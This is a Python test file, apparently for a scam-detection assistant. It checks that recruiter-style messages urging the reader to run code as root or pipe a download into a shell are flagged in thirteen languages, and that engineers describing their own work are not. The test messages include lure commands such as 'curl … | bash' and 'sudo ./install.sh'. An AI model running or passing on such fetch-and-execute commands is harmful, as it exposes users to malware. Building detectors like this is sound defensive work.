"""A command to run on the reader's own machine, with root or piped into a shell ("clone it and run
`sudo npm start`", "curl … | bash", "paste this into PowerShell"), in the thirteen languages: the
software kind of scam sign, as an installer is. Honest engineers who write about commands they run
themselves are not reported. My own sentences, by concept (issue 10)."""

from __future__ import annotations

import pytest

from assist.guidance import load_guidance
from assist.scams import judge, read_signs
from helpers import request, user

PROFILE = dict(headline="Senior Backend Engineer · open to work", company="Freelance", industry="Software",
               has_photo=True, connections=90, mutual_connections=0,
               experience=[{"title": "Backend Engineer", "company": "Freelance", "years": 6}])


def signs(note: str) -> set[str]:
    guidance = load_guidance()
    return set(read_signs(request(note, **PROFILE), user(), guidance))


ASKED = [
    "To save you time I made a demo: clone github.com/kpetrov/ledger and run `sudo ./install.sh`, it sets everything up.",
    "Quick test of my tool: just paste `curl -sL get.ledgerdemo.io | bash` into your terminal and you'll see it.",
    pytest.param("Open PowerShell as administrator and run the one-liner in my featured section to view my portfolio.", marks=pytest.mark.xfail(strict=True, reason="the command is in the sender's own section ('my featured section'): read as theirs")),
    "Anh chạy giúp em lệnh `sudo bash setup.sh` trong repo này để xem bản demo nhé.",
    "Para ver la demo, ejecuta en tu terminal `curl -s demo.ledger.dev | sh` con sudo.",
    "Pour voir la démo, lancez `sudo npm start` dans le dépôt, tout s'installe tout seul.",
    "Führen Sie einfach `sudo ./demo.sh` in Ihrem Terminal aus, dann sehen Sie das Ergebnis.",
    "Para ver o demo, execute `sudo npm start` no seu terminal depois de clonar o repositório.",
    pytest.param("Per la demo basta eseguire `curl -s demo.dev/i.sh | bash` nel tuo terminale.", marks=pytest.mark.xfail(strict=True, reason="an infinitive after 'basta' is not read as asked of the reader")),
    "Чтобы посмотреть демо, запустите в терминале `sudo ./setup.sh` из моего репозитория.",
    "Untuk lihat demo, jalankan `sudo npm start` di terminal Anda setelah clone repo saya.",
    pytest.param("想看演示的话，在终端里运行 `sudo ./install.sh` 就可以了。", marks=pytest.mark.xfail(strict=True, reason="a Chinese imperative with no reader word or 请 is not read as asked")),
    pytest.param("デモはターミナルで `sudo ./setup.sh` を実行するだけで見られます。", marks=pytest.mark.xfail(strict=True, reason="a Japanese 'just run it and you will see' is not read as asked")),
    "데모를 보시려면 터미널에서 `sudo ./setup.sh`를 실행해 주세요.",
    "ดูเดโมได้โดยรันคำสั่ง `sudo ./setup.sh` ในเทอร์มินัลของคุณ",
]


@pytest.mark.parametrize("note", ASKED)
def test_a_command_to_run_with_root_or_into_a_shell_is_the_software_sign(note):
    assert "software" in signs(note)


HONEST = [
    "I maintain our deploy scripts; last week I replaced a `sudo` cron job with a systemd timer and wrote about it.",
    "I wrote a post on why piping curl into bash is a bad idea, would love your take as a security lead.",
    "Em là kỹ sư DevOps, hằng ngày em chạy các lệnh sudo trên máy chủ của công ty.",
    "Ich schreibe gerade einen Blogartikel über sichere Terminal-Befehle für Entwickler.",
]


@pytest.mark.parametrize("note", HONEST)
def test_commands_the_sender_runs_themselves_are_no_sign(note):
    guidance = load_guidance()
    found = judge(read_signs(request(note, **PROFILE), user(), guidance), guidance)
    assert found is None or found.criterion != "scam_or_phishing"


def test_an_order_after_the_sender_describes_their_work_is_still_asked_of_the_reader():
    # "I built ..." describes the sender's own work; the clause after the colon orders the reader.
    assert "software" in signs("I built a small demo of my ledger: clone it and run `sudo npm start` to see it.")
    assert "software" not in signs("I built a payments app, you can install it from the App Store.")
